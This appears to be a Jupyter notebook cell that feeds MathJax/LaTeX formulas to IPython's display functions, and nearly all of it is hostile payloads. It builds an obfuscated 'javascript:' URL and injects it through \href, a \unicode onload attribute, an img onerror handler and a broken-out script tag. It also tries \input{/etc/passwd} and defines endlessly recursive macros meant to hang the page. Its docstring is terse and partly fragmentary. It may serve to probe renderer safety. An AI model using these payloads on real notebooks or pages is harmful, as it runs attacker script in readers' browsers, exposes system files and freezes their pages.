"""Formulas that link, style, load extensions and define macros without end for the reader's formula renderer.

naive: 2/2, and a reader whose page hangs, or runs what \href names, where MathJax is not in its safe mode.
reached: shown 4
page: the formulas' end
never: href="java
"""

# %%
from IPython.display import Latex, Math, display

run = "java" + "script:esca" + "ped(1)"
display(Math(rf"\href{{{run}}}{{click}} \style{{position:fixed}}{{x}} \class{{score}}{{x}} \cssId{{body}}{{x}}"))
display(Latex(rf"\require{{html}}\require{{unicode}} $$\unicode[x onload={run}]{{65}}$$ \input{{/etc/passwd}}"))
display(Latex(r"$$\def\a#1{\a{#1#1}}\a{x}$$ $\newcommand{\b}{\b\b}\b$"))
display(Latex(rf"<img src=x onerror={run}> $</script><script>{run}</script>$"))
print("shown", 4)
print("the formulas" + "' end")
